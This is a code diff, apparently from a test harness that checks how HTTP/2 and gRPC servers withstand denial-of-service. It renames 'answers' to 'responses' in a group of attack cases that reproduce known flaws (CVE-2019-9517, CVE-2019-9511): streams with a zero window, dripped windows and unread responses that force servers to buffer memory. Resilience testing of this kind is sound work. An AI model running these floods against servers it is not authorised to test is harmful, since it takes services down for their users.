@@ -61,14 +61,17 @@ const madeYouReset = (name: string, what: string, fault: (streamId: number) => U
       )),
 });
 
-/** Asks for long answers on 128 streams of each connection, and takes none. */
+/** Asks for long responses on 128 streams of each connection, and takes none. */
 async function refuseAnswers(
   target: Target,
   { connections, streams = 128, drip = 0 }: { connections: number; streams?: number; drip?: number },
 ) {
   const open: Http2Wire[] = [];
   await onEach(connections, async () => {
-    const http2 = await Http2Wire.connect(target, { takesAnswers: false, settings: [[Setting.initialWindowSize, 0]] });
+    const http2 = await Http2Wire.connect(target, {
+      takesResponses: false,
+      settings: [[Setting.initialWindowSize, 0]],
+    });
     open.push(http2);
     for (let stream = 0; stream < streams && !isOver(target); stream++) {
       await http2.call(SAY_HELLO, LONG_HELLO, "application/grpc", GZIP);
@@ -147,22 +150,22 @@ export const http2Streams: AttackGroup = {
       run: (target) => floodStreams(target, (id) => headers(id, callBlock(`${HASH}/ShaStream`))),
     },
     {
-      name: "answers-not-taken",
-      title: "128 requests of 4 KB for answers of 4 MB, with a window of 0: 596 MiB (B.6, CVE-2019-9517)",
+      name: "responses-not-taken",
+      title: "128 requests of 4 KB for responses of 4 MB, with a window of 0: 596 MiB (B.6, CVE-2019-9517)",
       run: (target) => refuseAnswers(target, { connections: 1 }),
     },
     {
-      name: "answers-not-taken-many",
+      name: "responses-not-taken-many",
       title: "The same by 16 connections, 16 streams each: what each may hold is bounded, and what all may (B.6)",
       run: (target) => refuseAnswers(target, { connections: 16, streams: 16 }),
     },
     {
-      name: "answers-dripped",
+      name: "responses-dripped",
       title: "The same, with one byte of window every 100 ms: any progress is not enough (B.6, CVE-2019-9511)",
       run: (target) => refuseAnswers(target, { connections: 4, streams: 32, drip: 1 }),
     },
     {
-      name: "answers-not-read",
+      name: "responses-not-read",
       title: "Windows of 2 GiB on 20 connections that are not read (CVE-2019-9517)",
       run: async (target) => {
         await onEach(20, async () => {
@@ -176,14 +179,14 @@ export const http2Streams: AttackGroup = {
       },
     },
     {
-      name: "streamed-answers-not-taken",
-      title: "Converse of 1 MiB names on 128 streams whose answers are not taken (CVE-2019-9517)",
+      name: "streamed-responses-not-taken",
+      title: "Converse of 1 MiB names on 128 streams whose responses are not taken (CVE-2019-9517)",
       maxBytes: 64 * MIB,
       run: async (target) => {
         const turns = repeat(gzipEnvelope(lengthDelimited(1, "x".repeat(MIB))), 100);
         await onEach(4, async () => {
           const http2 = await Http2Wire.connect(target, {
-            takesAnswers: false,
+            takesResponses: false,
             settings: [[Setting.initialWindowSize, 0]],
           });
           const ids = Array.from({ length: 128 }, () => http2.takeStreamId());
